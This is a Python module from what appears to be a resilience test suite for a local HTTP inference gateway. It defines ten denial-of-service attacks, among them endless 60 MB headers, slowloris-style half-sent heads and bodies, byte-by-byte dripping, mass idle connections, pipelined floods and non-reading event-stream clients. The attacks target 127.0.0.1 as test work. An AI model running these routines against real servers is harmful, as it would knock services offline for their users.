"""Attacks by a LAN client without a token on the HTTP server itself: connections, request heads, bodies and time."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

from bench.attacks.attack import Attack, AttackReport, Victim
from bench.attacks.http_wire import connections, hold, push, repeat, request_bytes

_HEADERS_BYTES = 60_000_000
_TENSOR_BYTES = 16_777_216
_HEAD = b"GET /predict HTTP/1.1\r\nHost: 127.0.0.1\r\n"
_HEADER = b"X-%05d: " + b"a" * 8_000 + b"\r\n"
_INFER = "/v2/models/lstm/infer"
#: Exceeds the gateway's limit of open files.
_N_CONNECTIONS = 1_100


def _headers() -> Iterator[bytes]:
    yield _HEAD
    for index in range(_HEADERS_BYTES // len(_HEADER)):
        yield _HEADER % index


def send_headers(victim: Victim, n_links: int) -> AttackReport:
    """Send 60 MB of headers, which never end, on each of ``n_links`` connections."""
    with connections(victim.target.http_port, n_links) as links:
        n_bytes = push(links, [_headers() for _ in links], victim.choose(8, 3))
        hold(links, 0.5)
    return AttackReport(f"60 MB of headers on {n_links} connections; {n_bytes / 1e6:.1f} MB were accepted")


def send_one_header(victim: Victim) -> AttackReport:
    """Send a header line, a request line and a chunk line that never end."""
    starts = [
        _HEAD + b"X: ",
        b"GET /",
        b"A",
        b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n1;",
        b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: ",
        b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\na\r\n" * 1_000,
    ]
    chunk = b"a" * 65_536
    with connections(victim.target.http_port, len(starts)) as links:
        contents = [repeat(start, chunk, _HEADERS_BYTES) for start in starts]
        n_bytes = push(links, contents, victim.choose(6, 3))
        hold(links, 0.5)
    return AttackReport(
        f"60 MB in one header, request line, method, chunk extension, trailer; {n_bytes / 1e6:.1f} MB were accepted"
    )


def open_idle(victim: Victim) -> AttackReport:
    """Hold more idle connections than the gateway's file limit."""
    with connections(victim.target.http_port, _N_CONNECTIONS) as links:
        n_closed = hold(links, victim.choose(5, 3))
    return AttackReport(f"{_N_CONNECTIONS:,} idle connections; {n_closed} were closed by the gateway")


def open_half_heads(victim: Victim) -> AttackReport:
    """Hold more connections with half a request head than the gateway's file limit."""
    with connections(victim.target.http_port, _N_CONNECTIONS) as links:
        push(links, [iter([_HEAD + b"X-A: "]) for _ in links], 3.0)
        n_closed = hold(links, victim.choose(5, 3))
    return AttackReport(f"{_N_CONNECTIONS:,} half-sent heads; {n_closed} were closed by the gateway")


def open_half_bodies(victim: Victim) -> AttackReport:
    """Hold twenty requests whose bodies of 16 MB lack their last byte."""
    head = request_bytes("POST", _INFER, {"Content-Length": str(_TENSOR_BYTES), "Content-Type": "application/json"})
    with connections(victim.target.http_port, 20) as links:
        n_bytes = push(links, [repeat(head, b" " * 65_535, _TENSOR_BYTES - 65_536) for _ in links], victim.choose(6, 4))
        n_closed = hold(links, 1.0)
    return AttackReport(f"20 half-sent bodies of 16 MB; {n_bytes / 1e6:.0f} MB were accepted, {n_closed} closed")


def drip_bodies(victim: Victim) -> AttackReport:
    """Send heads and bodies a byte at a time on fifty connections."""
    head = request_bytes("POST", "/predict", {"Content-Length": "200000", "Content-Type": "application/json"})
    rounds = victim.choose(25, 10)
    with connections(victim.target.http_port, 50) as links:
        push(links, [iter([head if index % 2 else _HEAD]) for index in range(len(links))], 2.0)
        for _ in range(rounds):
            push(links, [iter([b"1"]) for _ in links], 0.2)
            hold(links, 0.2)
    return AttackReport(f"50 connections, a byte every 0.2 s, {rounds} times")


def pipeline(victim: Victim) -> AttackReport:
    """Send thousands of requests in one write on each of several connections, and read no answer."""
    n_requests = victim.choose(10_000, 3_000)
    routes = ("/livez", "/openapi.json", "/predict", "/metrics")
    contents = [request_bytes("GET", route, {"Connection": "keep-alive"}) * n_requests for route in routes]
    with connections(victim.target.http_port, len(contents)) as links:
        push(links, [iter([content]) for content in contents], victim.choose(6, 3))
    return AttackReport(f"{n_requests:,} pipelined requests for each of {len(routes)} routes; no answer was read")


def open_event_streams(victim: Victim) -> AttackReport:
    """Hold 200 readers of the event stream that do not read."""
    request = request_bytes("GET", "/events", {"Connection": "keep-alive"})
    with connections(victim.target.http_port, 200) as links:
        push(links, [iter([request]) for _ in links], 3.0)
        hold(links[:1], victim.choose(4, 2))
    return AttackReport("200 readers of GET /events, which read nothing")


def flood_with_requests(victim: Victim) -> AttackReport:
    """Send requests on new connections as fast as they are accepted."""
    request = request_bytes("GET", "/devices")
    rounds = victim.choose(20, 5)
    for _ in itertools.repeat(None, rounds):
        with connections(victim.target.http_port, 50) as links:
            push(links, [iter([request]) for _ in links], 0.5)
            hold(links, 0.3)
    return AttackReport(f"{rounds * 50:,} requests, each on a new connection")


ATTACKS = [
    Attack("http 60 MB of headers", "http", lambda victim: send_headers(victim, 1)),
    Attack("http 60 MB of headers x 20", "http", lambda victim: send_headers(victim, 20)),
    Attack("http one endless line", "http", send_one_header),
    Attack("http idle connections", "http", open_idle),
    Attack("http half-sent heads", "http", open_half_heads),
    Attack("http half-sent bodies", "http", open_half_bodies),
    Attack("http slow bytes", "http", drip_bodies),
    Attack("http pipelined requests", "http", pipeline),
    Attack("http event streams", "http", open_event_streams),
    Attack("http many requests", "http", flood_with_requests),
]
